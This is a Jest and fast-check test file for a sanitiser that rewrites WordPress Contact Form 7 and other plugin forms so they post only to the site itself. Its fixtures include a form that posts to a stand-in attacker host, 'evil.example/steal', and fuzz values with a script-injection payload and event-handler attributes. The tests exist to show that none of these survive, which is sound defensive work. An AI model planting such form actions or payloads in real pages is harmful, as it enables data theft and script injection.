import fc from 'fast-check';
import { JSDOM } from 'jsdom';
import { pageContent } from '#content/server/page-content';
import { sanitizeContent } from '#content/server/sanitizer/sanitize-html';
import { runs } from '@/__tests__/generated-cases';
import recorded from '@/packages/content-backend/__tests__/fixtures/contact-form-7.json';
import { addresses, arbitraryHtml, site } from './arbitrary-html';

let log: jest.SpyInstance;
beforeEach(() => {
  log = jest.spyOn(console, 'error').mockImplementation(() => undefined);
});

const browser = new JSDOM('<!doctype html>').window.document;

/** What a browser makes of a content on the page `/contact/`. */
function shown(html: string): Element {
  const main = browser.createElement('main');
  main.innerHTML = pageContent(html, '/contact/', site).html;
  return main;
}

const form = (inside: string, more = '') =>
  `<form action="https://evil.example/steal" class="wpcf7-form" method="get" ${more}><fieldset class="hidden-fields-container"><input type="hidden" name="_wpcf7_unit_tag" value="wpcf7-f7-o1"></fieldset>${inside}</form>`;

/** What a screen reader says of a control. */
function nameOf(control: Element): string {
  const label = control.closest('label') ?? control.ownerDocument.createElement('i');
  return (control.getAttribute('aria-label') ?? label.textContent ?? '').trim();
}

describe('a form of Contact Form 7', () => {
  const page = shown(recorded.html);
  const one = (name: string) => page.querySelector<HTMLInputElement>(`[name="${name}"]`);

  it('sends every field to this site, with the page and the form in the address', () => {
    const sent = page.querySelector('form');
    expect(sent?.getAttribute('action')).toBe(
      '/blog/-/form?path=%2Fblog%2Fcontact%2F&form=wpcf7-f1875-o1#wpcf7-f1875-o1-answer',
    );
    expect([sent?.method, sent?.enctype]).toEqual(['post', 'multipart/form-data']);
    const names = [...page.querySelectorAll('[name]')].map((each) => each.getAttribute('name'));
    const asked = Array.from(recorded.html.matchAll(/ name="([^"]+)"/g), ([, name]) => name);
    expect(names).toEqual(expect.arrayContaining(asked));
  });

  it('keeps what each kind of field asks for', () => {
    expect(one('your-name')).toMatchObject({ type: 'text', maxLength: 60, placeholder: 'Name' });
    expect(one('your-name')?.getAttribute('aria-required')).toBe('true');
    expect(one('your-number')).toMatchObject({ type: 'number', min: '1', max: '10', value: '2' });
    expect(one('your-date')).toMatchObject({ type: 'date', min: '2026-01-01' });
    expect(one('your-range')).toMatchObject({ type: 'range', step: '10', value: '50' });
    expect(one('your-file')).toMatchObject({ type: 'file', accept: '.txt, .png' });
    expect(one('your-many[]')).toMatchObject({ multiple: true });
    expect(one('your-message')).toMatchObject({ rows: 5, minLength: 3, maxLength: 2000 });
    expect(one('your-radio')?.checked).toBe(true);
    expect(one('_wpcf7_quiz_answer_your-quiz')?.value).toMatch(/^[0-9a-f]{32}$/);
    expect(page.querySelector('.form-send')?.textContent).toBe('Send it');
  });

  it('names every field and every choice, also where its owner has written no label', () => {
    const controls = [...page.querySelectorAll('input:not([type=hidden]), select, textarea')];
    expect(controls.filter((control) => nameOf(control) === '')).toEqual([]);
    expect(nameOf(one('your-many[]') ?? page)).toBe('your many');
    const groups = [...page.querySelectorAll('[role=group]')];
    expect(groups.map((group) => group.getAttribute('aria-label'))).toEqual([
      'your check',
      'your free',
      'your radio',
    ]);
  });

  it('is in its own language, and shows nothing that needs the plugin’s script', () => {
    expect(page.querySelector('form')?.closest('[lang]')?.getAttribute('lang')).toBe('en-US');
    expect(page.querySelector('.wpcf7-response-output, [aria-live]')).toBeNull();
  });

  it.each([
    ['a captcha, which needs the scripts of another company', '<div class="cf-turnstile"></div>'],
    ['more than 200 fields', '<input name="a">'.repeat(201)],
  ])('leads to WordPress with %s', (what, inside) => {
    const link = shown(form(inside, `id="${what}"`)).querySelector('a');
    expect(link?.getAttribute('href')).toBe('/blog/-/form?path=%2Fblog%2Fcontact%2F');
    expect(log.mock.calls.join()).toContain(`Contact Form 7 (${what}) on /blog/contact/`);
  });

  it('is not shown where content stands on a page of other things', () => {
    expect(sanitizeContent(recorded.html, site).html).not.toMatch(/<form|<input|data-f/);
  });
});

it.each([
  ['Gravity Forms', '<form id="gform_3" method="post"><input name="input_1"></form>'],
  ['WPForms', '<form id="wpforms-form-9" class="wpforms-form" method="post"><input></form>'],
  ['Fluent Forms', '<form class="frm-fluent-form" method="post"><input></form>'],
  ['Ninja Forms', '<div id="nf-form-1-cont" class="nf-form-cont">loading</div>'],
  ['an HTML block', '<form action="https://list.example/" method="post"><input></form>'],
])(
  'a form of %s is a link to the page in WordPress, and is named in the log once',
  (name, html) => {
    const link = shown(`<p>Before</p>${html}`).querySelector('a');
    expect(link?.getAttribute('href')).toBe('/blog/-/form?path=%2Fblog%2Fcontact%2F');
    shown(html);
    expect(log).toHaveBeenCalledTimes(1);
    expect(String(log.mock.calls[0])).toContain(name);
  },
);

const attribute = fc.tuple(
  fc.constantFrom(
    ...'name value type action formaction form onfocus autofocus id class style accept pattern'.split(
      ' ',
    ),
    ...'min max list placeholder autocomplete aria-label data-field data-form for href src'.split(
      ' ',
    ),
  ),
  fc.oneof(
    fc.constantFrom(...addresses, 'text', 'submit', 'image', 'hidden', 'password', 'checkbox'),
    fc.constantFrom(
      'your-name',
      '_url',
      '_time',
      'a[]',
      '"><script>alert(1)</script>',
      '__proto__',
    ),
    fc.constantFrom(
      '{"kind":"send","label":"x"}',
      '{"kind":"line","name":"a","type":"text","value":""}',
    ),
    fc.string({ maxLength: 8 }),
  ),
);
const control = fc
  .tuple(
    fc.constantFrom('input', 'textarea', 'select', 'button', 'label', 'option', 'span', 'output'),
    fc.array(attribute, { maxLength: 5 }),
    fc.oneof(fc.constant(''), arbitraryHtml),
  )
  .map(([tag, attributes, inside]) => {
    const printed = attributes.map(
      ([name, value]) => ` ${name}="${value.replace(/"/g, '&quot;')}"`,
    );
    return `<${tag}${printed.join('')}>${inside}</${tag}>`;
  });

const ALLOWED =
  /^(?:id|name|type|value|placeholder|autocomplete|maxlength|minlength|min|max|step|rows|accept|multiple|checked|selected|tabindex|class|aria-(?:label|required))$/;

it('whatever stands in a form, nothing of it acts: known attributes alone, and this site’s address', () => {
  fc.assert(
    fc.property(fc.array(control, { maxLength: 6 }), (controls) => {
      const page = shown(form(controls.join('')));
      for (const one of page.querySelectorAll('input, textarea, select, option, button')) {
        const names = one.getAttributeNames().filter((name) => !ALLOWED.test(name));
        expect(names).toEqual([]);
        expect(['image', 'password', 'reset', 'button']).not.toContain(one.getAttribute('type'));
        expect(one.closest('form')).not.toBeNull();
      }
      for (const one of page.querySelectorAll('form')) {
        expect(one.getAttribute('action')).toMatch(
          /^\/blog\/-\/form\?path=%2Fblog%2Fcontact%2F&form=/,
        );
        expect(one.parentElement?.closest('form') ?? null).toBeNull();
      }
      expect(page.querySelectorAll('[name="_url"]').length).toBe(
        page.querySelectorAll('form').length,
      );
      expect(page.querySelector('script, [onfocus], [formaction], [autofocus]')).toBeNull();
      const marks = '[data-field], [data-form], [data-group], [data-part], [data-for]';
      expect(page.querySelector(marks)).toBeNull();
      const ids = [...page.querySelectorAll('[id]')].map(({ id }) => id);
      expect(new Set(ids).size).toBe(ids.length);
    }),
    { numRuns: runs(500) },
  );
});
